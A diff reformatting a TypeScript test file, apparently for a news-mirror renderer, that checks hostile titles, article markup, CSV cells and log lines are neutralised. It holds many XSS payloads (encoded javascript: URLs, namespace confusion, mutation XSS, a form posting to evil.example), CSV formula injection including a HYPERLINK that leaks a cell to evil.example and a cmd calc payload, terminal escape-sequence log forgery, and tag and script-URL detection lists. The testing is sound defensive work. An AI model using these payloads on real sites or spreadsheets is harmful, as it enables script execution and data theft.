@@ -35,7 +35,8 @@ const PAGE_URL = 'https://news.example.org/a/1.html';
 const BIDI_AND_CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
 
 const HOSTILE_TITLES: Record<string, string> = {
-  'Markdown link to javascript:': '新闻 [点我](javascript:alert(1)) ](javascript:alert(2)) ![x](javascript:alert(3))',
+  'Markdown link to javascript:':
+    '新闻 [点我](javascript:alert(1)) ](javascript:alert(2)) ![x](javascript:alert(3))',
   'raw HTML': '<script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>',
   'newlines starting blocks': '标题\n# 假标题\n\n| a | b |\n| - | - |\n<script>alert(1)</script>\n---',
   'RTL override': '正常标题\u202Egpj.exe\u202C \u2066隔离\u2069 \u202Bembed',
@@ -51,15 +52,56 @@ function article(title: string, body: Root = { type: 'root', children: [] }): Ar
 }
 
 function entries(title: string): IndexEntry[] {
-  return [{ id: 'n1', title, path: 'pages/china/n1.md', published: '2024-05-01T00:00:00Z', channelId: 'china' }];
+  return [
+    { id: 'n1', title, path: 'pages/china/n1.md', published: '2024-05-01T00:00:00Z', channelId: 'china' },
+  ];
 }
 
 const EXECUTABLE = new Set([
-  'script', 'iframe', 'object', 'embed', 'style', 'frame', 'frameset', 'base', 'form', 'meta', 'link', 'svg',
-  'math', 'input', 'button', 'textarea', 'select', 'video', 'audio', 'source', 'template', 'noscript', 'applet',
-  'portal', 'image', 'use', 'animate', 'set', 'xmp', 'plaintext', 'noembed', 'title',
+  'script',
+  'iframe',
+  'object',
+  'embed',
+  'style',
+  'frame',
+  'frameset',
+  'base',
+  'form',
+  'meta',
+  'link',
+  'svg',
+  'math',
+  'input',
+  'button',
+  'textarea',
+  'select',
+  'video',
+  'audio',
+  'source',
+  'template',
+  'noscript',
+  'applet',
+  'portal',
+  'image',
+  'use',
+  'animate',
+  'set',
+  'xmp',
+  'plaintext',
+  'noembed',
+  'title',
 ]);
-const URL_PROPERTIES = ['href', 'src', 'action', 'formAction', 'poster', 'background', 'data', 'xLinkHref', 'cite'];
+const URL_PROPERTIES = [
+  'href',
+  'src',
+  'action',
+  'formAction',
+  'poster',
+  'background',
+  'data',
+  'xLinkHref',
+  'cite',
+];
 const SCRIPT_URL = /^[\s\u0000-\u001f]*(javascript|vbscript|livescript|data)\s*:/i;
 
 /** What could run or load from elsewhere when `markdown` is rendered with raw HTML kept and nothing sanitised. */
@@ -85,9 +127,15 @@ function dangersInHtml(html: string, loads = true): string[] {
       const text = Array.isArray(value) ? value.join(' ') : String(value);
       if (/^on/i.test(name)) found.push(`${node.tagName} ${name}`);
       if (name === 'style' || name === 'srcSet' || name === 'srcDoc') found.push(`${node.tagName} ${name}`);
-      if (URL_PROPERTIES.includes(name) && SCRIPT_URL.test(text)) found.push(`${node.tagName} ${name}=${text}`);
+      if (URL_PROPERTIES.includes(name) && SCRIPT_URL.test(text))
+        found.push(`${node.tagName} ${name}=${text}`);
       // A load from a foreign host: anything but a link the reader follows.
-      if (loads && node.tagName !== 'a' && URL_PROPERTIES.includes(name) && /^\s*(https?:)?\/\//i.test(text)) {
+      if (
+        loads &&
+        node.tagName !== 'a' &&
+        URL_PROPERTIES.includes(name) &&
+        /^\s*(https?:)?\/\//i.test(text)
+      ) {
         found.push(`${node.tagName} ${name}=${text}`);
       }
     }
@@ -98,8 +146,15 @@ function dangersInHtml(html: string, loads = true): string[] {
 describe('hostile titles in pages, indexes, home and feed', () => {
   for (const [name, title] of Object.entries(HOSTILE_TITLES)) {
     test(name, () => {
-      const page = renderPage(article(title), { mirror, pagePath: 'pages/china/n1.md', channelTitle: '中国' });
-      const indexes = renderChannelIndexes({ id: 'china', title: '中国' }, entries(title), { mirror, now: NOW });
+      const page = renderPage(article(title), {
+        mirror,
+        pagePath: 'pages/china/n1.md',
+        channelTitle: '中国',
+      });
+      const indexes = renderChannelIndexes({ id: 'china', title: '中国' }, entries(title), {
+        mirror,
+        now: NOW,
+      });
       const home = renderHome(mirror, [{ id: 'china', title: '中国', count: 1 }], entries(title), NOW);
       const outputs: Record<string, string> = { page, home };
       for (const file of indexes) outputs[file.path] = String(file.content);
@@ -146,9 +201,9 @@ describe('channel CSV', () => {
   test('cells a spreadsheet would run as formulas are neutralised', () => {
     const titles = [
       '=HYPERLINK("https://evil.example/?"&A1,"click")',
-      '+1+cmd|\' /C calc\'!A0',
+      "+1+cmd|' /C calc'!A0",
       '-2+3',
-      '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
       '\t=1+1',
       '\r=1+1',
       '=1,"2"\n=3',
@@ -190,7 +245,8 @@ function parseCsv(csv: string): string[][] {
 }
 
 describe('log lines', () => {
-  const hostile = 'title\u001b[2J\u001b[1;1H\u001b]0;pwned\u0007\rforged line\nerror fake\u009b31m\u202eevil\u2028';
+  const hostile =
+    'title\u001b[2J\u001b[1;1H\u001b]0;pwned\u0007\rforged line\nerror fake\u009b31m\u202eevil\u2028';
   const lines = (json: boolean) => {
     const written: string[] = [];
     const log = createLogger({ json, level: 'debug', write: (line) => written.push(line) });
@@ -218,20 +274,33 @@ describe('log lines', () => {
 
 describe('hostile body markup through the transform (every XSS class)', () => {
   const VECTORS: Record<string, string> = {
-    'event handlers': '<img src="x.png" onerror="alert(1)"><p onclick="alert(1)" onmouseover="alert(1)">p</p><details open ontoggle="alert(1)">d</details><body onload="alert(1)">',
-    'javascript: URLs, encoded': '<a href="javascript:alert(1)">a</a><a href="&#106;avascript:alert(1)">b</a><a href="java&#x09;script:alert(1)">c</a><a href=" JAVASCRIPT:alert(1)">d</a><a href="vbscript:msgbox(1)">e</a>',
-    'data: URLs': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a><img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"><iframe src="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
-    'SVG namespace confusion': '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a><foreignObject><img src=x onerror=alert(1)></foreignObject><animate attributeName="href" to="javascript:alert(1)"/></svg>',
-    'MathML namespace confusion': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><math href="javascript:alert(1)">m</math>',
-    'mutation XSS': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></style></svg><noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-    'comments and CDATA': '<!--><img src=x onerror=alert(1)>--><p><![CDATA[><img src=x onerror=alert(1)>]]></p>',
-    '<base> and <meta refresh>': '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><p><a href="rel.html">rel</a></p>',
-    forms: '<form action="https://evil.example/"><input name="password" autofocus onfocus="alert(1)"><button formaction="javascript:alert(1)">go</button><textarea>t</textarea><select><option>o</option></select></form>',
-    'CSS url() and styles': '<p style="background:url(https://evil.example/x.png)">p</p><div style="behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml)">d</div><style>@import url(https://evil.example/x.css)</style><link rel="stylesheet" href="https://evil.example/x.css">',
-    'foreign loads': '<img srcset="https://evil.example/a.png 1x"><video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3"></audio><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><table background="https://evil.example/t.png"><tr><td>t</td></tr></table>',
-    'frames and templates': '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><template><img src=x onerror=alert(1)></template><frameset><frame src="javascript:alert(1)"></frameset><portal src="https://evil.example/"></portal>',
+    'event handlers':
+      '<img src="x.png" onerror="alert(1)"><p onclick="alert(1)" onmouseover="alert(1)">p</p><details open ontoggle="alert(1)">d</details><body onload="alert(1)">',
+    'javascript: URLs, encoded':
+      '<a href="javascript:alert(1)">a</a><a href="&#106;avascript:alert(1)">b</a><a href="java&#x09;script:alert(1)">c</a><a href=" JAVASCRIPT:alert(1)">d</a><a href="vbscript:msgbox(1)">e</a>',
+    'data: URLs':
+      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a><img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"><iframe src="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
+    'SVG namespace confusion':
+      '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a><foreignObject><img src=x onerror=alert(1)></foreignObject><animate attributeName="href" to="javascript:alert(1)"/></svg>',
+    'MathML namespace confusion':
+      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><math href="javascript:alert(1)">m</math>',
+    'mutation XSS':
+      '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></style></svg><noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+    'comments and CDATA':
+      '<!--><img src=x onerror=alert(1)>--><p><![CDATA[><img src=x onerror=alert(1)>]]></p>',
+    '<base> and <meta refresh>':
+      '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><p><a href="rel.html">rel</a></p>',
+    forms:
+      '<form action="https://evil.example/"><input name="password" autofocus onfocus="alert(1)"><button formaction="javascript:alert(1)">go</button><textarea>t</textarea><select><option>o</option></select></form>',
+    'CSS url() and styles':
+      '<p style="background:url(https://evil.example/x.png)">p</p><div style="behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml)">d</div><style>@import url(https://evil.example/x.css)</style><link rel="stylesheet" href="https://evil.example/x.css">',
+    'foreign loads':
+      '<img srcset="https://evil.example/a.png 1x"><video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3"></audio><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><table background="https://evil.example/t.png"><tr><td>t</td></tr></table>',
+    'frames and templates':
+      '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><template><img src=x onerror=alert(1)></template><frameset><frame src="javascript:alert(1)"></frameset><portal src="https://evil.example/"></portal>',
     'raw-text elements': '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
-    'Markdown written as text': '<p>[x](javascript:alert(1)) ![y](https://evil.example/t.png) &lt;img src=x onerror=alert(1)&gt; <span>&lt;script&gt;alert(1)&lt;/script&gt;</span></p>',
+    'Markdown written as text':
+      '<p>[x](javascript:alert(1)) ![y](https://evil.example/t.png) &lt;img src=x onerror=alert(1)&gt; <span>&lt;script&gt;alert(1)&lt;/script&gt;</span></p>',
   };
 
   for (const [name, html] of Object.entries(VECTORS)) {
